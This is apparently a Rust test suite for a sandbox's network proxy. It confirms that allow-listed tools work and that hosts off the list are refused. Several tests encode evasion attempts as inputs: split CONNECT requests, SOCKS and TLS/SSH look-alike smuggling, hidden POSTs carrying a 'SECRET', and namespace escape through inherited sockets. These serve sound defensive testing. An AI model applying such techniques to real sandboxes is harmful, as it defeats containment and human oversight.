/// Runs a Python snippet outside any sandbox (to build the test's fixtures).
fn python_here(code: &str, args: &[&std::ffi::OsStr]) {
    let out = Command::new("python3").arg("-c").arg(code).args(args).output().unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
}

#[test]
fn everyday_tools_work_through_the_proxy() {
    let lab = lab();
    let served = lab.outside.join("served");
    std::fs::create_dir_all(served.join("simple/demo")).unwrap();
    // A wheel, a pip index that lists it, and an npm package tarball.
    python_here(
        "import sys, zipfile, tarfile, io, json\n\
         d = sys.argv[1]\n\
         with zipfile.ZipFile(d + '/simple/demo/demo-1.0-py3-none-any.whl', 'w') as z:\n\
         \x20   z.writestr('demo/__init__.py', 'X = 1\\n')\n\
         \x20   z.writestr('demo-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: demo\\nVersion: 1.0\\n')\n\
         \x20   z.writestr('demo-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
         \x20   z.writestr('demo-1.0.dist-info/RECORD', '')\n\
         open(d + '/simple/demo/index.html', 'w').write('<a href=\"demo-1.0-py3-none-any.whl\">demo-1.0-py3-none-any.whl</a>')\n\
         open(d + '/simple/index.html', 'w').write('<a href=\"demo/\">demo</a>')\n\
         with tarfile.open(d + '/npmdemo-1.0.0.tgz', 'w:gz') as t:\n\
         \x20   data = json.dumps({'name': 'npmdemo', 'version': '1.0.0'}).encode()\n\
         \x20   i = tarfile.TarInfo('package/package.json'); i.size = len(data); t.addfile(i, io.BytesIO(data))\n",
        &[served.as_os_str()],
    );
    // A repository, served the way git's dumb HTTP protocol reads it.
    let repo = served.join("repo.git");
    let git = |args: &[&str], dir: &std::path::Path| {
        let out = Command::new("git").args(args).current_dir(dir).env("HOME", &lab.home).output().unwrap();
        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
    };
    let work = lab.outside.join("work");
    std::fs::create_dir_all(&work).unwrap();
    git(&["init", "-q", "-b", "main"], &work);
    std::fs::write(work.join("README"), "served through the proxy\n").unwrap();
    git(&["add", "README"], &work);
    git(&["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "one"], &work);
    git(&["clone", "-q", "--bare", work.to_str().unwrap(), repo.to_str().unwrap()], &lab.outside);
    git(&["update-server-info"], &repo);
    let port = file_server(served.clone());
    let env = [(ALLOW, "127.0.0.2,mirror.test")];
    let base = format!("http://127.0.0.2:{port}");

    // git clone over HTTP.
    let out =
        cmd(&lab, "0467", &env, &format!("git clone -q {base}/repo.git clone && cat clone/README")).output().unwrap();
    assert_eq!(ok(&out), "served through the proxy\n");
    // pip, from an index on the list.
    let pip =
        format!("python3 -m pip download -q --no-deps -d dl --index-url {base}/simple --trusted-host 127.0.0.2 demo");
    ok(&cmd(&lab, "0467", &env, &pip).output().unwrap());
    assert!(lab.ws.join("dl/demo-1.0-py3-none-any.whl").exists());
    // npm, a package by its URL.
    assert!(Command::new("npm").arg("--version").output().is_ok(), "these tests need npm (CI installs it)");
    let npm = format!(
        "npm_config_cache=$PWD/.npm-cache npm install --no-audit --no-fund --no-save {base}/npmdemo-1.0.0.tgz >/dev/null && cat node_modules/npmdemo/package.json"
    );
    let out = cmd(&lab, "0467", &env, &npm).output().unwrap();
    assert!(ok(&out).contains("\"npmdemo\""));
    // wget and curl.
    let out = cmd(&lab, "0467", &env, &format!("wget -q -O- {base}/simple/index.html")).output().unwrap();
    assert!(ok(&out).contains("demo"));
    // curl over TLS, through a CONNECT tunnel, to a name pinned in the configuration.
    let cert = lab.outside.join("cert.pem");
    let key = lab.outside.join("key.pem");
    let made = Command::new("openssl")
        .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=mirror.test"])
        .args(["-addext", "subjectAltName=DNS:mirror.test", "-keyout"])
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .unwrap();
    assert!(made.status.success(), "{}", text(&made.stderr));
    let script = lab.outside.join("https_server.py");
    std::fs::write(&script, include_str!("net/https_server.py")).unwrap();
    let mut server = Command::new("python3").arg(&script).arg(&cert).arg(&key).stdout(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(server.stdout.take().unwrap()), &mut line).unwrap();
    let tls_port: u16 = line.trim().parse().unwrap();
    let system = system_file(
        &lab,
        &format!(
            "[network]\nallow = [\"mirror.test:{tls_port}\", \"127.0.0.2\"]\nresolve = {{ \"mirror.test\" = \"127.0.0.2\" }}\n"
        ),
    );
    std::fs::copy(&cert, lab.ws.join("ca-bundle.txt")).unwrap();
    let out = cmd(
        &lab,
        "0467",
        &[(SYSTEM, system.to_str().unwrap())],
        &format!("curl -sS --cacert ca-bundle.txt https://mirror.test:{tls_port}/tls"),
    )
    .output()
    .unwrap();
    let _ = server.kill();
    let _ = server.wait();
    assert_eq!(ok(&out), "HELLO OVER TLS /tls\n");
}

#[test]
fn ssh_goes_through_the_proxy_command_sandbox_bash_provides() {
    let lab = lab();
    // Not an SSH server: it waits for the client's banner (as sshd may), says its own, and keeps
    // what comes next, until the client's KEXINIT (message 20) has arrived.
    let listener = TcpListener::bind("127.0.0.2:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for mut c in listener.incoming().flatten() {
            let tx = tx.clone();
            std::thread::spawn(move || {
                let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
                let mut heard = Vec::new();
                let mut buf = [0u8; 4096];
                let mut greeted = false;
                let kexinit = |h: &[u8]| {
                    let at = h.windows(2).position(|w| w == b"\r\n")? + 2;
                    (h.len() >= at + 6).then(|| h[at + 5] == 20)
                };
                while kexinit(&heard).is_none() {
                    match c.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => heard.extend_from_slice(&buf[..n]),
                    }
                    if !greeted && heard.windows(2).any(|w| w == b"\r\n") {
                        let _ = c.write_all(b"SSH-2.0-SandboxBashTest\r\n");
                        greeted = true;
                    }
                }
                let _ = tx.send((String::from_utf8_lossy(&heard[..heard.len().min(15)]).into_owned(), kexinit(&heard)));
            });
        }
    });
    let program = format!(
        "ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
         -o ConnectTimeout=5 -o 'ProxyCommand={} --sandbox-connect %h %p' -p {port} nobody@127.0.0.2 true",
        lab::SB
    );
    // Five times: a tunnel that lost bytes did so only now and then.
    for _ in 0..5 {
        let out = cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], &format!("timeout 10 {program}")).output().unwrap();
        let (banner, kexinit) = rx.recv_timeout(Duration::from_secs(15)).unwrap_or_default();
        assert!(banner.starts_with("SSH-2.0-OpenSSH"), "the server heard {banner:?}; ssh said {}", text(&out.stderr));
        assert_eq!(kexinit, Some(true), "no KEXINIT came through; ssh said {}", text(&out.stderr));
    }
}

#[test]
fn a_marker_set_outside_any_sandbox_gets_no_network_rather_than_every_host() {
    let lab = lab();
    let (three, heard) = listening_server("127.0.0.3");
    // The marker an inner run would see, set from outside: no enclosing namespace holds it.
    let marker = ok(&cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], "echo $SANDBOX_BASH_ENFORCED").output().unwrap());
    assert!(marker.contains("+net="), "{marker}");
    let out = cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], &format!("python3 client.py direct 127.0.0.3 {three}"))
        .env("SANDBOX_BASH_ENFORCED", marker.trim())
        .output()
        .unwrap();
    kernel_refused(&out, &[]);
    assert!(heard.lock().unwrap().is_empty(), "the denied host heard the command");
}

/// A server on `addr` that keeps everything each connection sends (for tests that must show a
/// destination heard nothing) and answers `HELLO`.
fn listening_server(addr: &str) -> (u16, std::sync::Arc<std::sync::Mutex<Vec<u8>>>) {
    let listener = TcpListener::bind(format!("{addr}:0")).unwrap();
    let port = listener.local_addr().unwrap().port();
    let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let kept = heard.clone();
    std::thread::spawn(move || {
        for mut c in listener.incoming().flatten() {
            let kept = kept.clone();
            std::thread::spawn(move || {
                let _ = c.set_read_timeout(Some(Duration::from_secs(3)));
                let mut buf = [0u8; 4096];
                while let Ok(n) = c.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    kept.lock().unwrap().extend_from_slice(&buf[..n]);
                    let _ = c.write_all(b"HELLO\n");
                }
            });
        }
    });
    (port, heard)
}

#[test]
fn a_tunnel_carries_no_chain_and_no_write_however_the_bytes_are_split() {
    let lab = lab();
    let (two, heard_two) = listening_server("127.0.0.2");
    let (three, heard_three) = listening_server("127.0.0.3");
    let list = [(ALLOW, "127.0.0.2")];
    let hex = |s: &[u8]| s.iter().map(|b| format!("{b:02x}")).collect::<String>();
    // A CONNECT to the denied host, one byte first; a SOCKS greeting and request in one write.
    let chains = [
        vec![hex(b"C"), hex(format!("ONNECT 127.0.0.3:{three} HTTP/1.1\r\n\r\n").as_bytes())],
        // What only looks like SSH or TLS: an SSH line that is an HTTP request line too, an SSH
        // line and then plain text, a TLS record header and then plain text.
        vec![hex(format!("SSH-2.0-x http://127.0.0.3:{three}/ HTTP/1.1\r\n\r\n").as_bytes())],
        vec![hex(b"SSH-2.0-x\r\n"), hex(format!("GET http://127.0.0.3:{three}/ HTTP/1.1\r\n\r\n").as_bytes())],
        vec![
            hex(b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"),
            hex(format!("GET http://127.0.0.3:{three}/ HTTP/1.1\r\n\r\n").as_bytes()),
        ],
        vec![hex(&[5, 1, 0, 5, 1, 0, 1, 127, 0, 0, 3, (three >> 8) as u8, three as u8])],
        vec![
            hex(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
            hex(format!("GET http://127.0.0.3:{three}/ HTTP/1.1\r\n\r\n").as_bytes()),
        ],
    ];
    for pieces in &chains {
        client(&lab, "0467", &list, &format!("split 127.0.0.2:{two} {}", pieces.join(" ")));
    }
    assert!(
        heard_three.lock().unwrap().is_empty(),
        "the denied host heard {:?}",
        String::from_utf8_lossy(&heard_three.lock().unwrap())
    );
    // Under network read: a write after a harmless request, pipelined, split, or as a body.
    let writes = [
        vec![hex(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"), hex(b"POST / HTTP/1.1\r\nContent-Length: 6\r\n\r\nSECRET")],
        vec![hex(b"SSH-2.0 /upload HTTP/1.1\r\nContent-Length: 6\r\n\r\nSECRET")],
        vec![hex(b"GET / HTTP/1.1\r\n\r\nPOST / HTTP/1.1\r\nContent-Length: 6\r\n\r\nSECRET")],
        vec![hex(b"PO"), hex(b"ST / HTTP/1.1\r\nContent-Length: 6\r\n\r\nSECRET")],
        vec![hex(b"GET / HTTP/1.1\r\nContent-Length: 6\r\n\r\nSECRET")],
    ];
    for pieces in &writes {
        client(&lab, "0447", &list, &format!("split 127.0.0.2:{two} {}", pieces.join(" ")));
    }
    let heard = String::from_utf8_lossy(&heard_two.lock().unwrap()).into_owned();
    assert!(!heard.contains("SECRET") && !heard.contains("POST"), "the allowed host heard a write: {heard:?}");
    // A TLS look-alike whose records carry requests (a server that skips control bytes would
    // read them): neither the request in the hello nor the one after it arrives.
    let record = |kind: u8, body: &[u8]| {
        let mut r = vec![kind, 3, 3, (body.len() >> 8) as u8, body.len() as u8];
        r.extend_from_slice(body);
        r
    };
    let mut hello_body = vec![1u8, 0, 1, 0x1b, 3, 3];
    hello_body.extend_from_slice(b"\r\nPOST /upload HTTP/1.1\r\nContent-Length: 6\r\n\r\nSECRET");
    let clean_hello = record(0x16, &[1, 0, 0, 0x26, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    let tls_writes = [
        vec![hex(&record(0x16, &hello_body))],
        vec![hex(&clean_hello), hex(&record(0x17, b"\r\nPOST /upload HTTP/1.1\r\nContent-Length: 6\r\n\r\nSECRET"))],
    ];
    for pieces in &tls_writes {
        client(&lab, "0447", &list, &format!("split 127.0.0.2:{two} {}", pieces.join(" ")));
    }
    let heard = String::from_utf8_lossy(&heard_two.lock().unwrap()).into_owned();
    assert!(!heard.contains("SECRET") && !heard.contains("POST"), "the allowed host heard a write: {heard:?}");
    // Positive control: with network write the same write arrives, with the tunnel's Host.
    client(&lab, "0467", &list, &format!("split 127.0.0.2:{two} {}", writes[0].join(" ")));
    let heard = String::from_utf8_lossy(&heard_two.lock().unwrap()).into_owned();
    assert!(heard.contains("SECRET") && heard.contains(&format!("Host: 127.0.0.2:{two}")), "{heard:?}");
}

#[test]
fn the_hosts_own_loopback_is_reached_only_by_address_or_loopback_port() {
    let lab = lab();
    let (port, heard) = listening_server("127.0.0.1");
    for allow in ["0.0.0.0/0,::/0", "localhost", "127.0.0.0/7"] {
        for target in [format!("127.0.0.1:{port}"), format!("localhost:{port}"), format!("0.0.0.0:{port}")] {
            let got = client(&lab, "0467", &[(ALLOW, allow)], &format!("connect {target}"));
            assert!(got.contains("HTTP/1.1 403 denied: "), "{allow} {target}: {got}");
        }
    }
    assert!(heard.lock().unwrap().is_empty());
    // Nor does a wide range reach this machine's own address (a service bound to every address
    // answers there as on loopback).
    let own = std::net::UdpSocket::bind("0.0.0.0:0")
        .and_then(|u| u.connect("192.0.2.1:9").and_then(|()| u.local_addr()))
        .map(|a| a.ip())
        .expect("this machine has an address with a route out");
    assert!(!own.is_loopback() && !own.is_unspecified(), "{own}");
    let (any_port, any_heard) = listening_server("0.0.0.0");
    let got = client(&lab, "0467", &[(ALLOW, "0.0.0.0/0")], &format!("connect {own}:{any_port}"));
    assert!(got.contains("HTTP/1.1 403 denied: ") && got.contains("this machine's own"), "{got}");
    assert!(any_heard.lock().unwrap().is_empty());
    let got = client(&lab, "0467", &[(ALLOW, &own.to_string())], &format!("connect {own}:{any_port}"));
    assert!(got.contains("TUNNEL HELLO"), "named by address it is reached: {got}");
    // Named by address, it is reached: the test hosts of these tests are such entries.
    let got = client(&lab, "0467", &[(ALLOW, &format!("127.0.0.1:{port}"))], &format!("connect 127.0.0.1:{port}"));
    assert!(got.contains("TUNNEL HELLO"), "{got}");
}

#[test]
fn a_root_command_cannot_leave_the_namespace_through_a_socket_made_outside() {
    let lab = lab();
    // A socket made outside the namespace, as standard input (as Node gives its children).
    for mode in ["0467", "1467"] {
        let (ours, theirs) = std::os::unix::net::UnixStream::pair().unwrap();
        let out = cmd(&lab, mode, &[(ALLOW, "127.0.0.2")], "python3 client.py escape")
            .stdin(Stdio::from(std::os::fd::OwnedFd::from(theirs)))
            .output()
            .unwrap();
        drop(ours);
        let got = text(&out.stdout);
        assert!(got.contains("SIOCGSKNS EPERM") && got.contains("vsock EPERM"), "{mode}: {got}{}", text(&out.stderr));
    }
    // Positive control: without a list (no namespace to leave), the ioctl answers.
    let (ours, theirs) = std::os::unix::net::UnixStream::pair().unwrap();
    let out = cmd(&lab, "1467", &[], "python3 client.py escape")
        .stdin(Stdio::from(std::os::fd::OwnedFd::from(theirs)))
        .output()
        .unwrap();
    drop(ours);
    assert!(text(&out.stdout).contains("setns 0"), "{}", text(&out.stdout));
}

#[test]
fn a_network_socket_made_outside_is_not_handed_to_the_command() {
    let lab = lab();
    let (_two, heard) = listening_server("127.0.0.3");
    // An unconnected socket of the host's network, inherited as standard input.
    let socket = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let out = cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], "echo ran")
        .stdin(Stdio::from(std::os::fd::OwnedFd::from(socket)))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(
        text(&out.stderr).contains("descriptor 0 is a network socket made outside the sandbox"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(text(&out.stdout), "");
    assert!(heard.lock().unwrap().is_empty());
    // Without a list there is nothing to go around: it runs.
    let socket = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let out =
        cmd(&lab, "0467", &[], "echo ran").stdin(Stdio::from(std::os::fd::OwnedFd::from(socket))).output().unwrap();
    assert_eq!(ok(&out), "ran\n");
}

#[test]
fn the_proxy_writes_down_a_bounded_number_of_refusals() {
    let lab = lab();
    let log = lab.outside.join("audit.log");
    let env = [(ALLOW, "127.0.0.2"), ("SANDBOX_BASH_AUDIT_LOG", log.to_str().unwrap())];
    client(&lab, "0467", &env, "many 127.0.0.3 150");
    let lines = std::fs::read_to_string(&log).unwrap();
    let network: Vec<&str> = lines.lines().filter(|l| l.contains("\"event\":\"network\"")).collect();
    assert_eq!(network.len(), 101, "100 destinations and the note that the rest were not kept");
    assert!(network[100].contains("further refused destinations are not recorded"));
}

#[test]
fn where_no_namespace_can_be_had_a_list_means_no_network_at_all() {
    let lab = lab();
    let two = http_server("127.0.0.2");
    // A place that forbids user namespaces, as many containers do: bubblewrap's own.
    let bwrap = |program: &str, allow: Option<&str>| {
        let inner = cmd(&lab, "0467", &[], program);
        let mut c = Command::new("bwrap");
        c.args(["--dev-bind", "/", "/", "--unshare-user", "--disable-userns", "--uid", "1000", "--", lab::SB]);
        c.args(inner.get_args()).current_dir(&lab.ws);
        for (name, value) in inner.get_envs() {
            match value {
                Some(v) => c.env(name, v),
                None => c.env_remove(name),
            };
        }
        if let Some(a) = allow {
            c.env(ALLOW, a);
        }
        c.stdin(Stdio::null()).output().expect("these tests need bubblewrap (CI installs it)")
    };
    // Positive control: without a list, the mode's network reaches the allowed host here too.
    let out = bwrap(&format!("python3 client.py direct 127.0.0.2 {two}"), None);
    assert!(text(&out.stdout).contains("HELLO FROM 127.0.0.2"), "{}{}", text(&out.stdout), text(&out.stderr));
    // With one: no socket at all, a program that needs the network refused, the rest runs.
    let out = bwrap(&format!("python3 client.py direct 127.0.0.2 {two}"), Some("127.0.0.2"));
    kernel_refused(&out, &[]);
    let out = bwrap(&format!("curl -s http://127.0.0.2:{two}/"), Some("127.0.0.2"));
    assert_eq!(out.status.code(), Some(125), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("so it allows no network at all"), "{}", text(&out.stderr));
    assert_eq!(ok(&bwrap("echo fine", Some("127.0.0.2"))), "fine\n");
}

#[test]
fn callers_that_ignore_sigchld_and_clients_that_read_all_proxy_are_served() {
    use std::os::unix::process::CommandExt;
    let lab = lab();
    let two = http_server("127.0.0.2");
    // A caller that ignores SIGCHLD (the disposition survives exec) has its children reaped
    // for it: the proxy still starts.
    let mut c = cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], &format!("curl -s http://127.0.0.2:{two}/sig"));
    // SAFETY: between fork and exec only signal(), which is async-signal-safe.
    unsafe {
        c.pre_exec(|| {
            libc::signal(libc::SIGCHLD, libc::SIG_IGN);
            Ok(())
        });
    }
    assert!(ok(&c.output().unwrap()).contains("HELLO FROM 127.0.0.2 GET /sig"));
    // ALL_PROXY names the HTTP proxy (clients that read it for every scheme, such as httpx,
    // fail to start with a SOCKS URL they have no library for), and it works for curl.
    let out = cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], "echo $ALL_PROXY $all_proxy").output().unwrap();
    let said = ok(&out);
    assert!(said.starts_with("http://127.0.0.1:") && !said.contains("socks"), "{said}");
    let program = format!("env -u HTTP_PROXY -u http_proxy curl -s http://127.0.0.2:{two}/all");
    assert!(ok(&cmd(&lab, "0467", &[(ALLOW, "127.0.0.2")], &program).output().unwrap()).contains("GET /all"));
}
